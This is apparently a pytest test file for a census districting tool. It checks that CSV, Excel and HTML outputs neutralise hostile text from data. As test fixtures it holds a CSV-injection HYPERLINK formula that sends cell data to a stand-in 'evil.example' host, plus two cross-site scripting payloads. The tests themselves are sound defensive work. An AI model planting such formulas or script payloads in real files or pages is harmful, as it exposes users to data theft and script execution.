"""Text from a register stays text in every output.

A. Spreadsheet cells: a text cell from data that begins with ``=``, ``+``, ``-``, ``@``,
   a tab or a CR is written to CSV with a ``'`` in front (OWASP, CSV injection), numbers
   stay numbers, and in workbooks such text is a string cell, never a formula.
B. HTML pages: names and addresses never run as script, in the map (its search box,
   tooltips and popups), the report, the printable sheets and the progress dashboard;
   the map is checked in a real browser (see ``test_browser.py``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from plan_fixtures import grid_plan

from districting.config import Config
from districting.fieldops.dedup import OUTPUT_FILES, dedup, write_dedup
from districting.fieldops.generate import generate_records, write_records
from districting.fieldops.progress import CSV_FILES, _csv_bytes, progress, write_progress
from districting.layers import PlanLayers
from districting.outputs.bundle import write_plan
from districting.outputs.cells import (
    TRIGGERS,
    csv_cell,
    csv_frame,
    csv_row,
    csv_text,
    frame_csv,
    looks_like_formula,
    openpyxl_text,
    text_from_csv,
)
from districting.outputs.sheets import _write_csv
from districting.pipeline import PlanResult
from districting.staffing import INTEGER_COLUMNS, STAFFING_COLUMNS, staffing_table

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
#: Texts a spreadsheet would read as formulas, one per trigger.
FORMULAS = [HYPERLINK, "+1", "@SUM(1)", "-2+3", "\t=1+2", "\r=1+2"]
#: Texts that would run as script if a page put them in its HTML unescaped.
SCRIPTS = ['<img src=x onerror="window.__pwned=1">',
           "</script><script>window.__pwned=2</script>"]
SALT = bytes(range(32))


def hostile_layers(*, name: str, addresses: list[str], point: str) -> PlanLayers:
    """The grid plan with the settlement named ``name``, the first units at
    ``addresses`` and every registration point named ``point``."""
    layers = grid_plan()
    layers["settlements"]["settlement_name"] = name
    units = layers["units"]
    units["address"] = units["address"].astype(object)
    for position, address in enumerate(addresses):
        units.loc[position, "address"] = address
    for layer in ("registration_points", "registration_districts"):
        layers[layer]["point_name"] = point
    layers["registration_points"]["function"] = "-2+3"
    return PlanLayers(**layers)


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV file (comma-separated, UTF-8 with or without a BOM)."""
    text = path.read_bytes().decode("utf-8-sig")  # as written: a CR in a cell stays
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_cells(paths: list[Path]) -> list[str]:
    """No text cell in ``paths`` begins with a trigger; returns all their cells."""
    assert paths
    cells = []
    for path in paths:
        for cell in csv_cells(path):
            assert not (cell.startswith(TRIGGERS) and not is_number(cell)), (path, cell)
            cells.append(cell)
    return cells


# ---------------------------------------------------------------- the rules


def test_text_beginning_with_a_trigger_gets_a_quote() -> None:
    for text in FORMULAS:
        assert looks_like_formula(text)
        assert csv_text(text) == "'" + text
    for text in ("Байконур", "мкр. 1, д. 5", "", "'quoted", "a=b", "1-2", " =1"):
        assert not looks_like_formula(text)
        assert csv_text(text) == text
    assert csv_text("-5") == "'-5"  # text from data, even if it reads as a number


def test_numbers_stay_numbers() -> None:
    assert csv_row([-3, -2.5, np.int64(-7), np.float64(-0.5), None, True, "-5"]) == [
        -3, -2.5, np.int64(-7), np.float64(-0.5), None, True, "'-5"]
    frame = pd.DataFrame({"n": [-1, 2], "x": [-0.25, np.nan], "name": ["-2+3", "ok"],
                          "s": pd.array(["@a", None], dtype="string")})
    written = csv_frame(frame).to_csv(index=False, lineterminator="\n")
    assert written == "n,x,name,s\n-1,-0.25,'-2+3,'@a\n2,,ok,\n"
    assert frame["name"].tolist() == ["-2+3", "ok"]  # the caller's frame is left alone
    plain = pd.DataFrame({"n": [-1], "name": ["Байконур"]})
    assert csv_frame(plain) is plain  # nothing to quote: not even copied


def test_the_quote_can_be_undone_exactly() -> None:
    texts = [*FORMULAS, "'=already", "''+twice", "'plain", "plain", "", "-", "'"]
    for text in texts:
        assert text_from_csv(csv_text(text)) == text
    # A text that begins with quotes and a trigger gets one more, so it is told apart.
    assert csv_text("'=already") == "''=already"
    assert csv_cell(12) == 12


def test_a_carriage_return_never_starts_a_row() -> None:
    frame = pd.DataFrame({"name": ["x\r=1+2", "ok"], "n": [-1, 2]})
    # Python's CSV writer leaves a CR bare unless it ends lines with one.
    assert frame.to_csv(index=False, lineterminator="\n") == "name,n\nx\r=1+2,-1\nok,2\n"
    assert frame_csv(frame, lineterminator="\n") == '"name","n"\n"x\r=1+2",-1\n"ok",2\n'
    rows = list(csv.reader(io.StringIO(frame_csv(frame, lineterminator="\n"), newline="")))
    assert rows == [["name", "n"], ["x\r=1+2", "-1"], ["ok", "2"]]
    plain = pd.DataFrame({"name": ["ok"], "n": [-1]})
    assert frame_csv(plain, lineterminator="\n") == "name,n\nok,-1\n"  # as pandas writes it


def test_progress_csv_quotes_text_only() -> None:
    frame = pd.DataFrame({"cd_code": ["-01", "02"], "households_short": [-3, 2],
                          "daily_pace": [-0.5, 1.25], "lagging": [True, False]})
    written = _csv_bytes(frame, ["cd_code", "households_short", "daily_pace", "lagging"])
    assert written == (b"cd_code,households_short,daily_pace,lagging\n"
                       b"'-01,-3,-0.50,true\n02,2,1.25,false\n")


def test_openpyxl_cells_from_data_stay_text() -> None:
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    sheet.append([HYPERLINK, "#N/A", "plain", -2, None])
    for cell in sheet[1]:
        openpyxl_text(cell)
    formula, error, plain, number, blank = sheet[1]
    assert (formula.data_type, formula.value, formula.quotePrefix) == ("s", HYPERLINK, True)
    assert (error.data_type, error.quotePrefix) == ("s", False)  # not an error cell
    assert (plain.data_type, plain.quotePrefix) == ("s", False)
    assert (number.data_type, number.value) == ("n", -2)
    assert blank.value is None


def test_sheet_csv_writer_quotes_text_only(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    _write_csv(path, [["-2+3", -3, -2.5, "x"], ["@SUM(1)", 0]], delimiter=",")
    assert path.read_bytes() == "\ufeff'-2+3,-3,-2.5,x\r\n'@SUM(1),0\r\n".encode()


# ---------------------------------------------------------------- a plan's files


@pytest.fixture(scope="module")
def formula_plan(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, PlanLayers]:
    """A plan (every file of write_plan) whose names and addresses look like formulas."""
    layers = hostile_layers(name=HYPERLINK, addresses=FORMULAS[1:], point="@SUM(1)")
    out = tmp_path_factory.mktemp("formulas") / "plan"
    write_plan(PlanResult(layers=layers, summary={"name": "test"}), out, title="t", lang="en")
    return out, layers


def test_plan_csvs_quote_every_formula(formula_plan: tuple[Path, PlanLayers]) -> None:
    out, layers = formula_plan
    paths = sorted(out.rglob("*.csv"))
    assert {p.parent.name for p in paths} >= {"plan", "sheets", "instructors"}
    cells = set(assert_no_formula_cells(paths))
    for text in FORMULAS:
        assert "'" + text in cells, text
    staffing = pd.read_csv(out / "staffing.csv", dtype={"settlement_id": str})
    assert staffing["settlement_name"].iloc[0] == "'" + HYPERLINK
    assert staffing["settlement_id"].iloc[-1] == "TOTAL"
    table = staffing_table(layers, config=Config())
    for column in INTEGER_COLUMNS:
        assert pd.api.types.is_integer_dtype(staffing[column]), column
        assert staffing[column].tolist() == table[column].tolist(), column
    numeric = [c for c in STAFFING_COLUMNS if pd.api.types.is_numeric_dtype(table[c])]
    pd.testing.assert_frame_equal(staffing[numeric], table[numeric].reset_index(drop=True),
                                  check_dtype=False)


def test_plan_workbooks_hold_text_not_formulas(formula_plan: tuple[Path, PlanLayers]) -> None:
    out, _ = formula_plan
    books = [out / "staffing.xlsx", *sorted((out / "sheets" / "xlsx").glob("*.xlsx"))]
    assert len(books) > 1
    found: set[str] = set()
    for path in books:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and looks_like_formula(cell.value):
                        assert cell.data_type == "s"
                        assert cell.quotePrefix  # stays text when edited in Excel
                        found.add(cell.value)
    # Written as they are, without a quote (XlsxWriter stores a CR as "_x000D_", as the
    # format wants, and openpyxl reads that back as it stands).
    assert set(FORMULAS) - {"\r=1+2"} <= found
    staffing = openpyxl.load_workbook(out / "staffing.xlsx")["Staffing"]
    assert staffing["B2"].value == HYPERLINK
    residents = staffing.cell(row=2, column=STAFFING_COLUMNS.index("residents") + 1)
    assert residents.data_type == "n" and isinstance(residents.value, int)


# ---------------------------------------------------------------- field operations


@pytest.fixture(scope="module")
def hostile_records() -> tuple[PlanLayers, pd.DataFrame]:
    """Records of the formula plan whose interviewer and household texts look like
    formulas, and one building whose id does."""
    layers = hostile_layers(name=HYPERLINK, addresses=[], point="@SUM(1)")
    units = layers.units
    units.loc[0, "building_id"] = "-B000000"
    records = generate_records(units, seed=3).records
    tablet = records.index[records["channel"] == "tablet"]
    for offset, text in enumerate(FORMULAS):
        records.loc[tablet[offset], "interviewer"] = text
        records.loc[tablet[offset + 10], "household_id"] = text
    assert (records["building_id"] == "-B000000").any()
    return layers, records


def test_generated_records_csv_quotes_and_parquet_keeps(
        hostile_records: tuple[PlanLayers, pd.DataFrame], tmp_path: Path) -> None:
    _, records = hostile_records
    cells = set(assert_no_formula_cells([write_records(records, tmp_path / "r.csv")]))
    assert {"'" + text for text in FORMULAS} | {"'-B000000"} <= cells
    back = pd.read_parquet(write_records(records, tmp_path / "r.parquet"))
    assert back["interviewer"].tolist() == records["interviewer"].astype(str).tolist()


def test_dedup_and_progress_tables_quote_every_formula(
        hostile_records: tuple[PlanLayers, pd.DataFrame], tmp_path: Path) -> None:
    layers, records = hostile_records
    result = dedup(records, known_buildings=set(layers.units["building_id"]), salt=SALT)
    write_dedup(result, tmp_path / "dedup")
    paths = [tmp_path / "dedup" / name for name, _ in OUTPUT_FILES.values()]
    cells = set(assert_no_formula_cells(paths))
    # (Records are read stripped: "\t=1+2" is "=1+2".)
    assert {"'" + text.strip() for text in FORMULAS} | {"'-B000000"} <= cells
    # Only the quote was added: undone, every table is the result as text.
    for path, table in zip(paths, result.tables().values(), strict=True):
        written = pd.read_csv(path, dtype=str, keep_default_na=False)
        pd.testing.assert_frame_equal(written.map(text_from_csv),
                                      table.astype(str).reset_index(drop=True),
                                      check_dtype=False)

    counted = progress(layers, result.accepted, as_of=date(2021, 10, 15))
    write_progress(counted, tmp_path / "progress", title=SCRIPTS[1], lang="en")
    paths = [tmp_path / "progress" / name for name in CSV_FILES.values()]
    assert "'" + HYPERLINK in assert_no_formula_cells(paths)
    page = (tmp_path / "progress" / "dashboard.html").read_text(encoding="utf-8")
    assert "<script>window" not in page and "<img src=x" not in page


# ---------------------------------------------------------------- HTML pages


@pytest.fixture(scope="module")
def script_plan(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, PlanLayers]:
    """A plan whose settlement, addresses and points are named with HTML and script."""
    layers = hostile_layers(name=SCRIPTS[0], addresses=SCRIPTS, point=SCRIPTS[1])
    out = tmp_path_factory.mktemp("scripts") / "plan"
    write_plan(PlanResult(layers=layers, summary={"name": "test"}), out,
               title="Map " + SCRIPTS[1], lang="en")
    return out, layers


def test_pages_hold_no_markup_from_data(script_plan: tuple[Path, PlanLayers]) -> None:
    out, _ = script_plan
    pages = [out / "map.html", out / "report.html", *(out / "sheets" / "html").glob("*.html")]
    for path in pages:
        page = path.read_text(encoding="utf-8")
        assert "<img src=x" not in page, path
        assert "<script>window" not in page, path
        assert page.count("</script>") == page.count("<script"), path


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from web_assets import CHROMIUM, CHROMIUM_ARGS, require_browser

    require_browser()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield chromium
        finally:
            chromium.close()


def _open(browser: Any, path: Path) -> tuple[Any, list[str]]:
    from web_assets import offline_assets

    page = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    page.set_default_timeout(5000)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(f"pageerror: {exc}"))
    page.route("**/*", offline_assets().handle)
    page.goto(path.as_uri(), wait_until="load")
    return page, errors


def _pwned(page: Any) -> Any:
    return page.evaluate("() => window.__pwned")


def test_map_shows_hostile_text_as_text(browser: Any,
                                        script_plan: tuple[Path, PlanLayers]) -> None:
    from playwright.sync_api import expect

    out, layers = script_plan
    page, errors = _open(browser, out / "map.html")
    try:
        page.wait_for_selector("path.cd-shape", state="attached")
        assert page.title() == "Map " + SCRIPTS[1]
        expect(page.get_by_text("Map " + SCRIPTS[1], exact=True)).to_be_visible()
        box = page.locator(".leaflet-control-search input.search-input")
        tips = page.locator(".leaflet-control-search .search-tip")
        popup = page.locator(".leaflet-popup-content")
        for position, address in enumerate(SCRIPTS):
            unit = layers.units.iloc[position]
            label = f"{address} · CD {unit['cd_code']}"
            box.fill("")
            box.press_sequentially(address)  # the whole address, as typed
            hit = tips.filter(has_text=label)
            expect(hit).to_have_count(1)
            expect(hit).to_have_text(label)  # the label as text, not as HTML
            hit.click()
            expect(popup).to_have_count(1)
            expect(popup).to_contain_text(address)
            expect(popup.locator("img")).to_have_count(0)
        # An RD's label and popup hold the point's name.
        box.fill("")
        box.press_sequentially("window.__pwned=2")
        rd = tips.filter(has_text=f"RD {layers.registration_districts['rd_code'].iloc[0]}")
        expect(rd).to_have_count(1)
        rd.click()
        expect(popup).to_have_count(1)  # the unit's popup closed (it fades out first)
        expect(popup).to_contain_text("Point: " + SCRIPTS[1])
        # The settlement's tooltip and a registration point's popup.
        # (The district outlines lie over the settlement's: the events go to it directly.)
        settlement = page.locator("path.settlement-shape").first
        settlement.dispatch_event("mouseover")
        expect(page.locator(".leaflet-tooltip")).to_contain_text(SCRIPTS[0])
        settlement.dispatch_event("click")
        expect(popup).to_have_count(1)
        expect(popup).to_contain_text(SCRIPTS[0])
        page.locator("path.rd-point").first.click(force=True)
        expect(popup).to_have_count(1)
        expect(popup).to_contain_text("Registration point of RD")
        expect(popup).to_contain_text(SCRIPTS[1])
        assert page.locator("img[src=x]").count() == 0
        assert _pwned(page) is None
        assert errors == []
    finally:
        page.context.close()


def test_report_and_sheet_pages_run_no_data(browser: Any,
                                            script_plan: tuple[Path, PlanLayers]) -> None:
    out, _ = script_plan
    for path in [out / "report.html", *sorted((out / "sheets" / "html").glob("*.html"))]:
        page, errors = _open(browser, path)
        try:
            assert page.locator("img[src=x]").count() == 0
            assert SCRIPTS[0] in page.inner_text("body")
            assert _pwned(page) is None and errors == [], path
        finally:
            page.context.close()

